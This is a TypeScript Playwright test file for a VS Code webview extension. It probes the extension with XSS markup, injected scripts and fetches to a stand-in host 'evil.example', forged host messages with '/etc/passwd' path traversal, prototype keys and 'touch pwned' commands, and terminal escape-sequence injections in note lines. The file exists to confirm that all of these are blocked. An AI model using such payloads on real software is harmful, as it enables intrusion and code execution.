import { mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ConsoleMessage, Frame, Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { addByKeyboard, entryOf, itemOf, openChecklist } from './checklistPage.js';
import { makeHandoffSample } from './handoffSample.js';
import { withWorkbench } from './workbench.js';

const scratch = (): string => mkdtempSync(join(inject('workbench').scratch, 'hostile-'));

/** Everything in a folder, git's own files left out. */
const snapshot = (folder: string): Record<string, string> => Object.fromEntries(readdirSync(folder, { recursive: true, withFileTypes: true })
  .filter((entry) => entry.isFile() && !/[\\/](?:\.git|node_modules)(?:[\\/]|$)/.test(entry.parentPath)).map((entry) => join(entry.parentPath, entry.name)).sort()
  .map((path) => [path.slice(folder.length + 1), readFileSync(path, 'base64')]));

/** What the browser said of a policy that was broken, of any frame of the window, with where it stood. */
function violationsOf(page: Page): string[] {
  const told: string[] = [];
  page.on('console', (message: ConsoleMessage) => {
    if (/content security policy|securitypolicyviolation/i.test(message.text()) && /vscode-webview|fake\.html|webview/i.test(message.location().url + message.text())) told.push(`${message.text()} at ${message.location().url}`);
  });
  return told;
}

/** Counts, in the page itself, what its policy refused from now on. */
const listen = (frame: Frame): Promise<void> => frame.evaluate(() => {
  const refused: string[] = [];
  Object.assign(globalThis, { refused });
  document.addEventListener('securitypolicyviolation', (event) => { refused.push(`${event.effectiveDirective} ${event.blockedURI}`); });
});
const refusedIn = (frame: Frame): Promise<string[]> => frame.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);

describe('the page under attack', () => {
  it('keeps a strict policy in normal use, and the policy refuses what is put into it', async () => {
    await withWorkbench({ viewport: { width: 1500, height: 1100 } }, async (workbench) => {
      const { page } = workbench;
      const told = violationsOf(page);
      const frame = await openChecklist(workbench);
      await listen(frame);

      const { policies, scripts, handlers } = await frame.evaluate(() => ({
        policies: [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((meta) => meta.getAttribute('content') ?? ''),
        // VS Code's own script of every webview carries no address and got its nonce before ours was there.
        scripts: [...document.scripts].filter(({ src }) => src !== '').map(({ src, nonce }) => ({ src, nonce })),
        handlers: [...document.querySelectorAll('*')].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on'))),
      }));
      expect(policies).toHaveLength(1);
      const directives = new Map((policies[0] ?? '').split(';').map((one) => one.trim().split(/\s+/)).map(([name = '', ...sources]) => [name, sources]));
      expect([...directives.keys()]).toEqual(['default-src', 'script-src', 'style-src', 'font-src']);
      expect(directives.get('default-src')).toEqual(["'none'"]);
      expect(directives.get('script-src')).toEqual([expect.stringMatching(/^'nonce-[A-Za-z0-9+/]{22}=='$/)]);
      // Under this address VS Code serves what lies in the extension's dist folder, from the machine itself; and nothing else is let in.
      for (const name of ['style-src', 'font-src']) for (const source of directives.get(name) ?? []) expect(source).toMatch(/^(?:'self'|https:\/\/\*\.vscode-cdn\.net)$/);
      expect(scripts.map(({ src }) => src.replace(/^.*\/dist\//, 'dist/').replace(/\?.*/, ''))).toEqual(['dist/webview.js']);
      expect(handlers).toEqual([]);

      // Normal use, with markup in every field.
      const markup = '<img src=x onerror=alert(1)> <b style=color:red>`x`</b> [a](command:x)';
      await addByKeyboard(page, frame, 'bug', markup);
      await addByKeyboard(page, frame, 'restartCommand', markup);
      const row = entryOf(frame, 'bug', '<img src=x');
      expect(await row.locator('.text').textContent()).toBe(markup.replaceAll('`', ''));
      expect(await frame.locator('img, b, a[href^="command"]').count()).toBe(0);
      await row.locator('.text').dblclick();
      await frame.locator('.composer [data-field="text"]').waitFor();
      await page.keyboard.press('Escape');
      await itemOf(frame, 'uncommitted').locator('.suggestion .accept').click();
      await page.keyboard.press('Control+Enter');
      await frame.locator('.result').waitFor();
      await workbench.setTheme('Default High Contrast Light');
      await frame.locator('.result').getByRole('button', { name: 'Undo Write' }).click();
      await frame.locator('.result').waitFor({ state: 'detached' });
      await workbench.setTheme('Default Dark Modern');
      expect(await refusedIn(frame)).toEqual([]);
      expect(told).toEqual([]);

      // The same listener sees each of these refused, so that its silence above means something.
      await frame.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.broken = true';
        const markup = new DOMParser().parseFromString('<img src="https://evil.example/x.png" onerror="globalThis.broken = true"><p style="color: red">x</p><iframe src="https://evil.example/"></iframe>', 'text/html');
        const handler = document.importNode(markup.body, true);
        const remote = document.createElement('script');
        remote.src = 'https://evil.example/x.js';
        document.body.append(script, ...handler.childNodes, remote);
        fetch('https://evil.example/').catch(() => undefined);
      });
      await expect.poll(async () => [...new Set((await refusedIn(frame)).map((one) => one.split(' ')[0]))].sort(), { timeout: 30_000 })
        .toEqual(expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'script-src-elem', 'style-src-attr']));
      expect(await frame.evaluate(() => 'broken' in globalThis)).toBe(false);
    });
  });

  it('cannot make the host do anything by messages of its own making', async () => {
    await withWorkbench({ viewport: { width: 1500, height: 1100 } }, async (workbench) => {
      const { page, sample } = workbench;
      if (!sample) throw new Error('no sample');
      // A script that got into the page would have what the page got: its connection to the host.
      await page.addInitScript(() => {
        let acquire: (() => { postMessage(message: unknown): void }) | undefined;
        Object.defineProperty(globalThis, 'acquireVsCodeApi', {
          configurable: true, get: () => acquire && (() => Object.assign(globalThis, { host: acquire?.() }).host), set: (value: typeof acquire) => { acquire = value; },
        });
      });
      const frame = await openChecklist(workbench);
      await addByKeyboard(page, frame, 'bug', 'There before the attack');
      await frame.waitForFunction(() => 'host' in globalThis);
      const before = snapshot(sample.folder);
      const tabs = await page.locator('.tabs-container .tab').count();
      const hostile: unknown[] = [
        null, 1, 'write', [], {}, { type: 'constructor' }, { type: '__proto__' }, { type: 'command', command: 'workbench.action.quit' }, { type: 'executeCommand', arguments: ['workbench.action.terminal.new'] },
        { type: 'openLink', owner: '../../etc/passwd', index: 0 }, { type: 'openLink', owner: 'x', index: -1 }, { type: 'openResult', file: '/etc/passwd' }, { type: 'openResult', file: '../../../../etc/passwd' },
        { type: 'openEvidence', suggestion: '/etc/passwd', index: 0 }, { type: 'openPickUp', place: '/etc/passwd' }, { type: 'insertCommand', command: 'touch pwned' }, { type: 'copyCommand', command: 'touch pwned' },
        { type: 'handOver', way: 'touch pwned' }, { type: 'noticeAction', notice: 'x', action: 'workbench.action.quit' }, { type: 'noticeAction', notice: 'command:workbench.action.quit', action: 'command:x' },
        { type: 'selectFolder', folder: 'file:///etc' }, { type: 'selectFolder', folder: '/etc' }, { type: 'setDocument', entry: 'x', document: '../../evil.md' }, { type: 'addEntry', item: '__proto__', text: 'x', detail: '' },
        { type: 'addEntry', item: 'bug', text: 'x'.repeat(1_000_000), detail: '' }, { type: 'editEntry', entry: 'x', text: 'y', detail: 'z', document: '../../evil.md' }, { type: 'markNote', done: true }, { type: 'continueNote' }, { type: 'openNote' },
        { type: 'tick', item: 'bug', ticked: 'yes' }, { type: 'fold', category: 'x', folded: true }, { type: 'setFocus', focus: { toString: 'x' } },
      ];
      await frame.evaluate((messages) => { for (const message of messages) (globalThis as unknown as { host: { postMessage(value: unknown): void } }).host.postMessage(message); }, hostile);

      // Messages are served in order: once this one is, all before it were.
      await frame.evaluate(() => { (globalThis as unknown as { host: { postMessage(value: unknown): void } }).host.postMessage({ type: 'addEntry', item: 'bug', text: 'After the attack', detail: '' }); });
      await entryOf(frame, 'bug', 'After the attack').waitFor();
      await entryOf(frame, 'bug', 'There before the attack').waitFor();
      expect(await itemOf(frame, 'bug').locator('.entry').count()).toBe(2);
      expect(snapshot(sample.folder)).toEqual(before);
      expect(await page.locator('.tabs-container .tab').count()).toBe(tabs);
      expect(await page.locator('.terminal-wrapper').count()).toBe(0);
      expect(await frame.locator('.pickup-headline, .result').count()).toBe(0);
    });
  });
});

describe('commands of a hostile note', () => {
  it('stand in the terminal as one harmless line that nobody has executed', async () => {
    const folder = scratch();
    const home = join(folder, 'home');
    const sample = makeHandoffSample(join(folder, 'sample'), home);
    const file = join(sample.folder, '.claude/docs', sample.note);
    const text = readFileSync(file, 'utf8');
    // What a stranger may write into a note by hand: the end of a bracketed paste, line ends of every kind, keys that a shell acts on.
    const attacks = ['touch pwned-1\u001b[201~\r', 'touch pwned-2\u0003\u0004', 'touch pwned-3\u2028touch pwned-4\u0085', 'touch pwned-5\u001b]0;x\u0007\u000b', 'echo \u202etouch pwned-6'];
    writeFileSync(file, text.replace(/(?:^- Run on restart: .*\n)+/m, attacks.map((attack) => `- Run on restart: \`${attack}\`\n`).join('')));
    await withWorkbench({ workspace: sample.folder, env: { ...sample.env, HOME: home }, viewport: { width: 1240, height: 1000 }, settings: { 'terminal.integrated.gpuAcceleration': 'off' } }, async (workbench) => {
      const { page } = workbench;
      await workbench.runCommand('Session Handoff: Pick Up the Handoff');
      const frame = await workbench.frame();
      await frame.locator('#pickup-headline').waitFor();
      const commands = frame.locator('.command');
      const shown = await commands.locator('code').allTextContents();
      expect(shown.length).toBeGreaterThanOrEqual(attacks.length);
      for (const line of shown) expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      for (const [index, line] of shown.entries()) {
        const row = commands.nth(index);
        await row.hover();
        await row.getByRole('button', { name: /^Insert into the terminal/ }).click();
        const words = line.split(' ').slice(-1)[0] ?? line;
        await page.locator('.terminal-wrapper.active .xterm-rows', { hasText: words }).waitFor();
      }
      expect(readdirSync(sample.folder).filter((name) => name.startsWith('pwned'))).toEqual([]);
      // The shell has read everything once it answers; what stood in its line is taken back before, as a person would.
      await page.locator('.terminal-wrapper.active .xterm').click();
      await page.keyboard.press('Control+C');
      await page.keyboard.type('echo settled-$((40+2))');
      await page.keyboard.press('Enter');
      await page.locator('.terminal-wrapper.active .xterm-rows', { hasText: 'settled-42' }).waitFor();
      expect(readdirSync(sample.folder).filter((name) => name.startsWith('pwned'))).toEqual([]);
      await workbench.screenshot('hostile-commands');
    });
  });
});
